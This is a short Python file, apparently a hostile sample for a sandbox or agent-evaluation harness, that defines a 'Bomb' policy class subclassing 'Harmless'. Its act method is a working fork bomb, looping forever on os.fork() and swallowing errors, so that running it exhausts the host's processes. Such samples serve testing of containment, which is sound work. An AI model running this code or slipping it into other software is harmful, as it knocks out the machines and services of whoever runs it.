"""A fork bomb: every process forks as often as it is let, and never rests."""

from __future__ import annotations

import os
from typing import Any

from attempts import Harmless  # type: ignore[import-not-found]


class Bomb(Harmless):  # type: ignore[misc]
    def act(self, obs: dict[str, Any]) -> dict[str, Any]:
        while True:
            try:
                os.fork()
            except OSError:
                continue


def make_policy() -> object:
    return Bomb()
